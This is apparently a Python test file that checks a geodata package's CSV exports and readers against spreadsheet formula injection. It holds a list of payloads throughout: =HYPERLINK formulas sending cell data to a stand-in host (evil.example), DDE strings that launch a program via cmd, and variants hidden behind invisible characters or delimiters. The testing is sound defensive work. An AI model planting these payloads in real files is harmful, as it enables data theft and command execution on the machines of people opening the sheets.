"""A name that a spreadsheet runs.

The weakness: a spreadsheet takes a cell that starts with = + - or @ for a formula, and a formula
can send the sheet away or start a program. An attacker calls a hall "=HYPERLINK(...)" on the open
map, or hides the sign behind a blank, in full width, or behind a semicolon at which a spreadsheet
set to another country cuts the line. What closes it: every text in every CSV goes through
``no_formula``, which puts an apostrophe wherever a cell could start so; reading takes it off.
"""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from released import draw_release

from famgeo.outputs.sheets import write_csv
from famgeo.sources.assets import read_assets
from famgeo.sources.places import read_places
from famgeo.sources.roster import read_roster
from famgeo.sources.synth import write_roster
from famgeo.tables import ASSETS
from famgeo.tables.formulas import as_written, no_formula

BODY = 'HYPERLINK("http://evil.example/"&A1)'
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = (
    *("", " ", "   ", "\t", "\r", "\n", "\xa0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u2060"),
    *("Hall;", "Hall; ", "Hall;\u200b", "Hall\t", "Hall\n", ";;", '";', ';"', ';""'),
)
PAYLOADS = [f"{before}{sign}{BODY}" for before in BEFORE for sign in SIGNS]
PAYLOADS += ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1;=2"]
UNSEEN = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*")
FORMULA = re.compile(r"[=+\-@＝＋－＠]")


def runs(data):
    """Return the cells that some spreadsheet would run: cut at commas, semicolons or tabs.

    A comma in quotes is no place to cut; where another sign cuts, the quotes are out of step.
    """
    text = data.decode("utf-8-sig")
    found = []
    kept, off = csv.QUOTE_MINIMAL, csv.QUOTE_NONE
    for delimiter, quoting in ((",", kept), (";", kept), (";", off), ("\t", kept), ("\t", off)):
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
        found += [cell for row in rows for cell in row if is_formula(cell)]
    return found


def is_formula(cell):
    cell = UNSEEN.sub("", cell, count=1).lstrip('"')
    try:
        float(cell.strip('"'))
    except ValueError:
        return bool(FORMULA.match(cell))
    return False


def test_the_check_itself_sees_formulas():
    assert runs(b"a,=1+x\r\n")
    assert runs(b"a,Hall;=x\r\n")
    assert runs('"a","b;\u200b@x"\r\n'.encode())
    assert not runs(b"a,'=1+1,-84.5,39\r\n")


@pytest.mark.parametrize("audience", ["district", "partner"])
def test_no_cell_of_an_export_runs(tmp_path, audience):
    release = draw_release(names=PAYLOADS, reached=[50] * len(PAYLOADS))
    for path in write_csv(release, "autumn", tmp_path, audience=audience):
        if path.suffix == ".csv":
            assert runs(path.read_bytes()) == []


@pytest.mark.parametrize("column", ["kind", "opening_hours", "languages", "site_id", "wheelchair"])
def test_no_column_is_forgotten(tmp_path, column):
    release = draw_release(names=PAYLOADS, reached=[50] * len(PAYLOADS))
    release.plans[0].sites[column] = PAYLOADS
    assert runs(write_csv(release, "autumn", tmp_path)[0].read_bytes()) == []


def test_a_study_s_own_name_does_not_run(tmp_path):
    release = draw_release(quality="=1+1")
    object.__setattr__(release, "study", "=cmd|' /C calc'!A0")
    assert runs(write_csv(release, "autumn", tmp_path)[1].read_bytes()) == []


@given(st.text(alphabet="=+-@＝＠;\t\r\n ,'\"aé\u200b\xa0", max_size=12))
def test_any_text_is_made_safe_and_read_back_as_it_was(text):
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["x", no_formula(text), "y"])
    assert runs(line.getvalue().encode()) == []
    if "'" not in text:
        assert as_written(no_formula(text)) == text


def test_a_written_roster_does_not_run_and_is_read_as_it_was(tmp_path):
    path = tmp_path / "in.csv"
    rows = "".join(
        f'S{i},school,{10 + i / 999},50,"{p.replace(chr(34), chr(34) * 2)}"\n'
        for i, p in enumerate(PAYLOADS)
    )
    path.write_text(f"student_id,school_id,lon,lat,grade\n{rows}", encoding="utf-8", newline="")
    students = read_roster(path).table
    write_roster(students, tmp_path / "out.csv")
    assert runs((tmp_path / "out.csv").read_bytes()) == []
    again = read_roster(tmp_path / "out.csv").table
    assert again["grade"].tolist() == students["grade"].tolist()


def test_a_fetched_directory_does_not_run(tmp_path):
    from famgeo.sources.fetched import _write_places  # noqa: PLC0415 - osmnx is slow to load

    rows = "".join(
        f'A{i},"{p.replace(chr(34), chr(34) * 2)}",{10 + i / 999},50\n'
        for i, p in enumerate(PAYLOADS)
    )
    path = tmp_path / "in.csv"
    path.write_text(f"asset_id,name,lon,lat\n{rows}", encoding="utf-8", newline="")
    places = read_assets(path).table
    assert set(ASSETS.columns) <= set(places.columns)
    _write_places(places, tmp_path / "pois.csv")
    assert runs((tmp_path / "pois.csv").read_bytes()) == []
    assert read_assets(tmp_path / "pois.csv").table["name"].tolist() == places["name"].tolist()


def test_a_workbook_that_comes_in_is_read_as_what_it_shows(tmp_path):
    from hostile import workbook  # noqa: PLC0415

    path = tmp_path / "places.xlsx"
    path.write_bytes(
        workbook([["id", "lon", "lat"], ['=HYPERLINK("http://evil.example")', 10, 50]])
    )
    report = read_places(path).report
    assert "evil" not in str(report)
    assert "id is blank" in str(report)
